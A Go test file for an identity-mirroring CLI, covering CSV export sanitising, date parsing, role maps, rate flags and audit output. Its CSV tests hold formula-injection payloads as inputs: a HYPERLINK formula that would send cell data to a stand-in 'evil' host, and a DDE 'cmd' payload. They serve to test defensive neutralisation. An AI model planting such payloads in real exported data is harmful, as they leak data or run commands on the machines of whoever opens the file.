package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/idmirror/idmirror"
	"github.com/idmirror/idmirror/internal/testenv"
	"github.com/idmirror/idmirror/mirror"
)

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1)`: `'=HYPERLINK("http://evil/?"&A1)`,
		"+1+cmd|' /C calc'!A0":           "'+1+cmd|' /C calc'!A0",
		"-2+3":                           "'-2+3",
		"@SUM(A1)":                       "'@SUM(A1)",
		"\tx":                            "'\tx",
		"\rx":                            "'\rx",
		"+447700900123":                  "+447700900123", // exactly E.164: a phone number stays
		"+44 7700 900123":                "'+44 7700 900123",
		"alice@example.com":              "alice@example.com",
		"":                               "",
	} {
		if got := csvSafe(in); got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// A user-writable attribute that is a formula reaches a spreadsheet inert in
// CSV; JSON keeps the raw value.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	db := testenv.DynamoDB(t)
	table := testenv.NewTable(t, db)
	s := mirror.New(db, table, nil)
	ctx := context.Background()
	at := time.Date(2026, 9, 30, 22, 0, 0, 0, time.UTC)
	u := idmirror.User{PoolID: "p", Sub: "sub-eve", Username: "eve", Enabled: true,
		Attributes: map[string]string{"email": "eve@example.com", "given_name": `=HYPERLINK("http://evil")`, "phone_number": "+447700900123"}}
	if _, err := s.PutUser(ctx, idmirror.UserWrite{User: u, Fields: idmirror.AllFields, At: at, Source: idmirror.SourceSync}); err != nil {
		t.Fatal(err)
	}
	args := []string{"audit", "export", "--table", table, "--pool", "p"}
	code, out, stderr := runCLI(t, append(args, "--format", "csv")...)
	if code != exitOK {
		t.Fatalf("%d %s", code, stderr)
	}
	recs, _ := csv.NewReader(strings.NewReader(out)).ReadAll()
	for _, rec := range recs {
		for _, cell := range rec {
			if strings.HasPrefix(cell, "=") {
				t.Fatalf("a formula cell reached the CSV: %q\n%s", cell, out)
			}
		}
	}
	if !strings.Contains(out, "+447700900123") || strings.Contains(out, "'+447700900123") {
		t.Fatalf("an E.164 phone number must stay as it is:\n%s", out)
	}
	if _, out, _ = runCLI(t, append(args, "--format", "json")...); !strings.Contains(out, `"=HYPERLINK`) {
		t.Fatalf("JSON keeps raw values:\n%s", out)
	}

	// --until with a date alone includes that day (a change at 22:00 on the 30th).
	code, out, stderr = runCLI(t, "audit", "changes", "--table", table, "--pool", "p", "--since", "2026-07-01", "--until", "2026-09-30", "--format", "json")
	var rows []map[string]any
	if code != exitOK || json.Unmarshal([]byte(out), &rows) != nil || len(rows) == 0 {
		t.Fatalf("changes until 2026-09-30 missed that day's change: %d %s %s", code, out, stderr)
	}
}

func FuzzParseBound(f *testing.F) {
	for _, s := range []string{"2026-09-30", "2026-09-30T23:59:59Z", "2026-09-30T23:59:59.123456789+02:00", "", "x", "2026-13-40"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		from, err1 := parseInstant("since", s)
		until, err2 := parseUntil("until", s)
		if (err1 == nil) != (err2 == nil) {
			t.Fatalf("%q: one parser accepts, the other refuses: %v / %v", s, err1, err2)
		}
		if err1 != nil {
			if !strings.Contains(err1.Error(), "--since") {
				t.Fatalf("the error names no flag: %v", err1)
			}
			return
		}
		if until.Before(from) || until.Sub(from) >= 24*time.Hour {
			t.Fatalf("%q: until %v is not within the day after %v", s, until, from)
		}
	})
}

// A manual sync without --role-map keeps the role map the deployment
// recorded; it does not flip it back to the default.
func TestManualSyncKeepsTheRecordedRoleMap(t *testing.T) {
	direct := testenv.CognitoDirect(t)
	testenv.Cognito(t)
	db := testenv.DynamoDB(t)
	table := testenv.NewTable(t, db)
	pool := testenv.NewPool(t, direct, "admins", "support")
	custom := t.TempDir() + "/roles.json"
	if err := os.WriteFile(custom, []byte(`{"roles":[{"name":"admin","groups":["admins"]},{"name":"support","groups":["support"]}]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, stderr := runCLI(t, "sync", "--table", table, "--pool", pool.ID, "--repair", "--role-map", custom); code != exitOK {
		t.Fatalf("sync with the deployed map: %d %s", code, stderr)
	}
	if code, _, stderr := runCLI(t, "sync", "--table", table, "--pool", pool.ID, "--repair"); code != exitOK {
		t.Fatalf("manual sync: %d %s", code, stderr)
	}
	m, err := mirror.New(db, table, nil).RoleMapAsOf(context.Background(), pool.ID, time.Time{})
	if err != nil || len(m.Roles) != 2 || m.Roles[1].Name != "support" {
		t.Fatalf("recorded role map after a manual sync: %+v %v", m, err)
	}
}

// An account's own rates: a category AWS does not let accounts raise is
// refused before anything is read.
func TestRateFlag(t *testing.T) {
	for _, args := range [][]string{
		{"sync", "--table", "t", "--pool", "p", "--rate", "UserUpdate=50"},
		{"restore", "--table", "t", "--source-pool", "a", "--target-pool", "b", "--dry-run", "--rate", "Nope=3"},
	} {
		code, _, stderr := runCLI(t, args...)
		if code != exitUsage || !strings.Contains(stderr, "rate") {
			t.Errorf("idmirror %v: exit %d, %s; want a usage error about the rate", args, code, stderr)
		}
	}
}

// audit changes prints who made each change and from where (text, CSV,
// JSON), --actor keeps one principal's changes, and audit user names who
// granted each membership.
func TestAuditShowsActors(t *testing.T) {
	db := testenv.DynamoDB(t)
	table := testenv.NewTable(t, db)
	s := mirror.New(db, table, nil)
	ctx := context.Background()
	at := time.Date(2026, 8, 3, 10, 0, 0, 0, time.UTC)
	ops := idmirror.Actor{Type: "AssumedRole", ARN: "arn:aws:sts::111122223333:assumed-role/ops/alice", SourceIP: "203.0.113.9"}
	mallory := idmirror.Actor{Type: "IAMUser", ARN: "arn:aws:iam::111122223333:user/mallory", SourceIP: "198.51.100.66"}
	u := idmirror.User{PoolID: "p", Sub: "sub-bob", Username: "bob", Enabled: true, Groups: []string{"operators"}}
	if _, err := s.PutUser(ctx, idmirror.UserWrite{User: u, Fields: idmirror.AllFields, At: at, Source: idmirror.SourceEvent, Actor: ops}); err != nil {
		t.Fatal(err)
	}
	u.Groups = []string{"admins", "operators"}
	if _, err := s.PutUser(ctx, idmirror.UserWrite{User: u, Fields: idmirror.FieldGroups, At: at.Add(time.Hour), Source: idmirror.SourceEvent, Actor: mallory}); err != nil {
		t.Fatal(err)
	}
	base := []string{"audit", "changes", "--table", table, "--pool", "p", "--since", "2026-08-01", "--field", "groups"}
	code, out, stderr := runCLI(t, base...)
	if code != exitOK || !strings.Contains(out, mallory.ARN) || !strings.Contains(out, "198.51.100.66") || !strings.Contains(out, ops.ARN) {
		t.Fatalf("text: %d %s %s", code, out, stderr)
	}
	_, out, _ = runCLI(t, append(base, "--actor", "user/mallory", "--format", "csv")...)
	recs, _ := csv.NewReader(strings.NewReader(out)).ReadAll()
	if len(recs) != 2 || recs[0][9] != "actor" || recs[1][9] != mallory.ARN || recs[1][10] != "198.51.100.66" || recs[1][7] != "admins,operators" {
		t.Fatalf("csv --actor user/mallory: %q", recs)
	}
	_, out, _ = runCLI(t, append(base, "--actor", "AKIA-none", "--format", "json")...)
	var rows []map[string]any
	if json.Unmarshal([]byte(out), &rows) != nil || len(rows) != 0 {
		t.Fatalf("json --actor of nobody: %s", out)
	}
	code, out, _ = runCLI(t, "audit", "user", "bob", "--table", table, "--pool", "p")
	if code != exitOK || !strings.Contains(out, "granted   admins at 2026-08-03T11:00:00Z by "+mallory.ARN+" from 198.51.100.66 (event)") ||
		!strings.Contains(out, "granted   operators at 2026-08-03T10:00:00Z by "+ops.ARN) {
		t.Fatalf("audit user: %s", out)
	}
}
